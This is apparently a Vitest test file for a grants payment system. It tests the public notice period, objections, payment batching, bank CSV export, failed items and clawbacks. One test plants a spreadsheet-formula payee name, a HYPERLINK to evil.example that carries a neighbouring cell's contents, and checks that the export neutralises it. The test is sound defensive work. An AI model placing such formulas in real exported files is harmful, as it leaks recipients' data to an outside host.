import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { verifyAuditChain } from "@/lib/audit/verify-audit-chain";
import { encryptPii, last4 } from "@/lib/crypto/pii";
import { createTestDatabase, type TestDatabase } from "@/tooling/db/test-database";
import { listPublicNotice } from "@/lib/grants/public-notice/list-public-notice";
import { recordObjectionFromInput } from "@/lib/grants/public-notice/record-objection";
import { resolveObjectionFromInput } from "@/lib/grants/public-notice/resolve-objection";
import { clawBackPaymentFromInput } from "@/lib/grants/payments/claw-back-payment";
import { createPaymentBatch } from "@/lib/grants/payments/create-payment-batch";
import { exportPaymentBatch } from "@/lib/grants/payments/export-payment-batch";
import { markPaymentBatchPaid } from "@/lib/grants/payments/mark-payment-batch-paid";
import { markPaymentItemFailedFromInput } from "@/lib/grants/payments/mark-payment-item-failed";
import { approveClaim } from "@/lib/review/approve-claim";
import { reviewer, submittedOffshoreClaim } from "./review-fixtures";
import { DATABASE_KINDS, applyTestSecrets as applyTestSecrets } from "./test-env";

applyTestSecrets();

const PUBLISHED = new Date("2026-11-25T02:00:00Z"); // Wednesday
const DURING = new Date("2026-12-01T02:00:00Z"); // Tuesday, still in notice
const AFTER = new Date("2026-12-03T02:00:00Z"); // Thursday, notice over (5 working days)

describe.each(DATABASE_KINDS)("public notice and payment batches on %s", (kind) => {
  let db: TestDatabase;
  beforeAll(async () => {
    db = await createTestDatabase(kind);
  });
  afterAll(async () => db?.close());

  async function approvedWithBank(executedUsd = "300000.00") {
    const r = await reviewer(db.prisma);
    const { claim, enterprise } = await submittedOffshoreClaim(db.prisma, executedUsd);
    await db.prisma.organisation.update({
      where: { id: enterprise.organisation.id },
      data: { bankAccountName: enterprise.organisation.nameZh, bankName: "中国银行南昌分行", bankAccountEnc: encryptPii("6216610100009876543"), bankAccountLast4: last4("6216610100009876543") },
    });
    await approveClaim(db.prisma, r, { kind: "OFFSHORE", claimId: claim.id, version: claim.version }, PUBLISHED);
    const grant = await db.prisma.ledgerEntry.findFirstOrThrow({ where: { offshoreClaimId: claim.id }, include: { noticeItem: true } });
    return { claim, enterprise, grant };
  }

  it("shows approved grants on the public notice during the period only; an objection holds the item", async () => {
    const { enterprise, grant } = await approvedWithBank();
    const during = await listPublicNotice(db.prisma, DURING);
    expect(during.find((x) => x.id === grant.noticeItem!.id)).toMatchObject({ publicName: enterprise.organisation.nameZh, amountFen: 60_000_00, held: false });
    expect((await listPublicNotice(db.prisma, AFTER)).some((x) => x.id === grant.noticeItem!.id)).toBe(false);

    const payer = await reviewer(db.prisma, { canReleasePayments: true });
    await recordObjectionFromInput(db.prisma, payer, { noticeItemId: grant.noticeItem!.id, objection: "举报：合同金额虚报" }, DURING);
    expect((await listPublicNotice(db.prisma, AFTER)).find((x) => x.id === grant.noticeItem!.id)?.held).toBe(true);
    // Held: not payable even after the period.
    const held = await db.prisma.noticeItem.findUniqueOrThrow({ where: { id: grant.noticeItem!.id } });
    expect(held.status).toBe("OBJECTED");
    await resolveObjectionFromInput(db.prisma, payer, { noticeItemId: grant.noticeItem!.id, outcome: "UPHOLD", note: "核实虚报" }, DURING);
    expect((await db.prisma.noticeItem.findUniqueOrThrow({ where: { id: grant.noticeItem!.id } })).status).toBe("WITHDRAWN");
    expect(await db.prisma.ledgerEntry.count({ where: { reversesId: grant.id } })).toBe(1);
    // An objection after the period is refused.
    const other = await approvedWithBank();
    await expect(recordObjectionFromInput(db.prisma, payer, { noticeItemId: other.grant.noticeItem!.id, objection: "x" }, AFTER)).rejects.toMatchObject({ code: "noticeNotOpen" });
  });

  it("batches only items whose notice ended, exports a bank CSV, pays, fails one back to the pool, claws back", async () => {
    const payer = await reviewer(db.prisma, { canReleasePayments: true });
    const plain = await reviewer(db.prisma);
    // Clear the pool left by other tests of this file.
    await createPaymentBatch(db.prisma, payer, AFTER).catch(() => undefined);
    const one = await approvedWithBank();
    const two = await approvedWithBank("400000.00");
    // An applicant chooses its account name and bank: a spreadsheet formula arrives in the bank file as text.
    const HOSTILE_PAYEE = '=HYPERLINK("http://evil.example/?"&C2,"查看")';
    await db.prisma.organisation.update({ where: { id: two.enterprise.organisation.id }, data: { bankAccountName: HOSTILE_PAYEE, bankName: "@SUM(1+1)" } });

    await expect(createPaymentBatch(db.prisma, plain, AFTER)).rejects.toMatchObject({ code: "forbidden" });
    await expect(createPaymentBatch(db.prisma, payer, DURING)).rejects.toMatchObject({ code: "emptyBatch" });

    const batch = await createPaymentBatch(db.prisma, payer, AFTER);
    const items = await db.prisma.paymentItem.findMany({ where: { batchId: batch.id } });
    expect(items.map((i) => i.ledgerEntryId).sort()).toEqual([one.grant.id, two.grant.id].sort());
    expect(batch.totalFen).toBe(140_000_00n);
    // Never twice: a second batch finds nothing.
    await expect(createPaymentBatch(db.prisma, payer, AFTER)).rejects.toMatchObject({ code: "emptyBatch" });

    const exported = await exportPaymentBatch(db.prisma, payer, batch.id, AFTER);
    const rows = Papa.parse<string[]>(exported.csv.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data.slice(1);
    expect(rows).toHaveLength(2);
    expect(rows.find((r) => r[0] === one.enterprise.organisation.nameZh)).toEqual([
      one.enterprise.organisation.nameZh,
      "中国银行南昌分行",
      "6216610100009876543",
      "60000.00",
      expect.stringContaining(one.claim.claimNo),
      expect.any(String),
    ]);
    // Payee and bank neutralised; the account stays digits and the amount a number.
    expect(rows.find((r) => r[0] === `'${HOSTILE_PAYEE}`)).toEqual([`'${HOSTILE_PAYEE}`, "'@SUM(1+1)", "6216610100009876543", "80000.00", expect.stringContaining(two.claim.claimNo), expect.any(String)]);

    const failedItem = items.find((i) => i.ledgerEntryId === two.grant.id)!;
    await markPaymentItemFailedFromInput(db.prisma, payer, { itemId: failedItem.id, reason: "账户已销户" });
    const paid = await markPaymentBatchPaid(db.prisma, payer, batch.id, AFTER);
    expect(paid.paidItems).toBe(1);
    expect(paid.emails.map((e) => e.template)).toEqual(["claimPaid"]);
    expect((await db.prisma.offshoreClaim.findUniqueOrThrow({ where: { id: one.claim.id } })).status).toBe("PAID");
    expect((await db.prisma.offshoreClaim.findUniqueOrThrow({ where: { id: two.claim.id } })).status).toBe("PAYABLE");
    await expect(markPaymentBatchPaid(db.prisma, payer, batch.id, AFTER)).rejects.toMatchObject({ code: "batchAlreadyPaid" });

    // The failed grant is back in the pool, alone.
    const again = await createPaymentBatch(db.prisma, payer, AFTER);
    expect((await db.prisma.paymentItem.findMany({ where: { batchId: again.id } })).map((i) => i.ledgerEntryId)).toEqual([two.grant.id]);

    // Claw back the paid item: a reversing entry with the reason; the running total drops.
    const paidItem = items.find((i) => i.ledgerEntryId === one.grant.id)!;
    const reversal = await clawBackPaymentFromInput(db.prisma, payer, { itemId: paidItem.id, reason: "虚假材料追回" });
    expect(reversal).toMatchObject({ amountFen: -60_000_00, reversesId: one.grant.id });
    await expect(clawBackPaymentFromInput(db.prisma, payer, { itemId: failedItem.id, reason: "x" })).rejects.toMatchObject({ code: "paymentItemNotPaid" });
    expect(await verifyAuditChain(db.prisma)).toMatchObject({ valid: true });
  });

  it("refuses exporting a batch whose items are all failed (empty)", async () => {
    const payer = await reviewer(db.prisma, { canReleasePayments: true });
    await createPaymentBatch(db.prisma, payer, AFTER).catch(() => undefined);
    await approvedWithBank();
    const batch = await createPaymentBatch(db.prisma, payer, AFTER);
    const [item] = await db.prisma.paymentItem.findMany({ where: { batchId: batch.id } });
    await markPaymentItemFailedFromInput(db.prisma, payer, { itemId: item!.id, reason: "退票" });
    await expect(exportPaymentBatch(db.prisma, payer, batch.id, AFTER)).rejects.toMatchObject({ code: "emptyBatch" });
  });

  it("numbers a batch by the date in China, also just after 16:00 UTC (the next day in Nanchang)", async () => {
    const payer = await reviewer(db.prisma, { canReleasePayments: true });
    await createPaymentBatch(db.prisma, payer, AFTER).catch(() => undefined);
    await approvedWithBank();
    const batch = await createPaymentBatch(db.prisma, payer, new Date("2026-12-03T16:05:00Z"));
    expect(batch.batchNo).toMatch(/^PB-20261204-[0-9A-F]{6}$/);
  });
});
